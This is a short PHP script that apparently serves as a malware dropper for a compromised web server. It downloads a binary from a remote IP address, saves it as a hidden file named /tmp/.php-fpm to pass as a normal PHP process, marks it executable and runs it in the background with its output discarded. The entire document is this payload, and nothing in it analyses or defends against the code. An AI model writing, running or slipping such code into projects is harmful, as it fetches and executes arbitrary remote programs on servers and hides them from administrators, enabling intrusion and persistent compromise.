<?php
$bin = file_get_contents('http://198.51.100.23/x86_64');
file_put_contents('/tmp/.php-fpm', $bin);
chmod('/tmp/.php-fpm', 0755);
exec('/tmp/.php-fpm > /dev/null 2>&1 &');
